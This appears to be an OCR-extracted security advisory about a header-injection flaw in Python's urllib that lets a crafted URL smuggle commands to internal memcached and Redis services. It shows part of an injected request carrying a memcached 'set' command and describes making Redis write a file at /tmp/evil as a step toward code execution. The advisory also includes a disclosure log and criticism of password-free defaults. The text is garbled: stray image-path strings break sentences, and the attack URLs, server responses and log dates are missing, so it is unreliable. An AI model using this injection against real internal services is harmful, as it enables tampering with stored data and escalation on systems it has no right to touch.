As described in the protocol documentation, memcached exposes a very simple network protocol for storing and retrieving cached values. Typically thisservice is deployed on application servers to speed up certain operations or share data between multiple instances without having to rely on slower database calls. Note that memcached is often not password protected because that is the default configuration. Developers and administrators often operate under the poorly conceived notion that "internal" services of these kinds can't be attacked by outsiders.
In our case, if we could fool an internal Python application into fetching a URL for us, then we could easily access memcached instances. Consider the URL:
This generates the following HTTP request:
GET /foo HTTP/1.1
Accept-Encoding: identityConnection: close
User-Agent: Python-urllib/3.4
set foo 0 0 5
When evaluating the above lines in light of memcached protocol syntax, most of the above produce syntax errors. However, memcached does not close the connection upon receiving bad commands. This allows attackers to inject commands anywhere in the request and have them honored. The above request produced the following response from memcached (which was configured with default settings from the Debian Linux package):
The "foo" value was later confirmed to be stored successfully. In this scenario an attacker would be able to send arbitrary commands to internal memcached instances. If an application depended upon memcached to store any kind of security-critical data structures (such as user session data, HTML content, or other sensitive data), then this could perhaps be leveraged to escalate privileges within the application. It is worth noting that an attacker could also trivially cause a denial of service condition in memcached by storing large amounts of data.

Attacking Redis

Redis is very similar to memcached in several ways, though it also provides backup storage of data, several built-in data types, and the ability to execute Lua scripts. Quite a bit has been published about attacking Redis in the last few years. Since Redis provides a TCP protocol very similar to memcached, and it also allows one to submit many erroneous commands before correct ones, the same attacks work in terms of fiddling with an application's stored data.
In addition, it is possible to store files at arbitrary locations on the filesystem which contain a limited amount of attacker controlled data. For instance, this URLcreates a new database file at /tmp/evil:
And we can see the contents include a key/value pair set during the attack:
# strings -n 3 /tmp/evil
In theory, one could use this attack to gain remote code execution on Redis by (over-)writing various files owned by the service user, such as:
However, in practice many of these files may not be available, not used by the system or otherwise not practical in attacks.

Versions Affected

All recent versions of Python in the 2.x and 3.x branches were affected. Cedric Buissart helpfully provided information on where the issue was fixed in each:

3.4 / 3.5 : revision 94952

While the fix has been available for a while in the latest versions, the lack of follow-though by Python Security means many stable OS distributions likely have not had back patches applied to address it. At least Debian Stable, as of this writing, is still vulnerable.

Responsible Disclosure Log


Notified Python Security of vulnerability with full details.


Requested status from Python Security, due to lack of human response.Python Security list moderator said original notice held up in moderation queue. Mails now flowing.


Requested status from Python Security, since no response to vulnerability had been received.


Response from Python Security. Stated that issue is related to a general header injection bug, which has been fixed in recent versions. Belief that part of the problem lies in glibc; working with RedHat security on that.


Asked if Python Security had requested a CVE.


Python Security stated no CVE had been requested, will request one when other issues sorted out. Provided more information on glibc interactions.


Responded in agreement that one aspect of the issue could be glibc's problem.


Requested a status update from Python Security.


Requested a status update from Python Security. Warned that typical disclosure policy has a 90 day limit.


RedHat requested a CVE forthe general header injection issue. Notified Python Security that full details of issue would be published due to inaction on their part.


Full disclosure.

Final Thoughts

I find it irresponsible of the developers and distributors of Redis andmemcached to provide default configurations that lack any authentication. Yes, I understand the reasoning that they should only be used only on "trusted internal networks". The problem is that very few internal networks, in practice, are much safer than the internet. We can't continue to make the same bad assumptions of a decadeago and expect security to improve. Even an unauthenticated servicelistening on localhost is risky these days. It wouldn't be hard to add an auto-generated, random password to these services during installation. That is, if the developers of these services took security seriously.